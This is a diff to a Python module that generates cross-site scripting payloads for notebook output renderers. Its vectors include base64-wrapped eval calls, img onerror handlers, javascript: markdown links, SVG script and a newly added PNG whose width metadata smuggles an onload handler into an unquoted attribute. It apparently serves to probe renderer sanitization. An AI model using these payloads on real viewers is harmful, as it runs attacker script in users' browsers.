@@ -59,6 +59,9 @@ def inline(name: str) -> str:
     return f"eval(atob('{base64.b64encode(attack(name).encode()).decode()}'))"
 
 
+TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+
+
 def onerror(name: str) -> str:
     return f'<img src=x onerror="{inline(name)}">'
 
@@ -75,6 +78,9 @@ def output_payloads() -> dict[str, str]:
         "markdown_link": f"display(Markdown({'[a link](javascript:' + inline('markdown_link') + ')'!r}))",
         "markdown_img": f"display(Markdown({onerror('markdown_img')!r}))",
         "svg_script": f"display(SVG({svg!r}))",
+        # a real image whose size, in its metadata, a page writes into the <img> tag unquoted
+        "png_size_onload": (f"display({{'image/png': {TINY_PNG!r}, 'text/plain': 'a dot'}}, raw=True, "
+                            f"metadata={{'image/png': {{'width': {'1 onload=' + inline('png_size_onload')!r}}}}})"),
     }
 
 
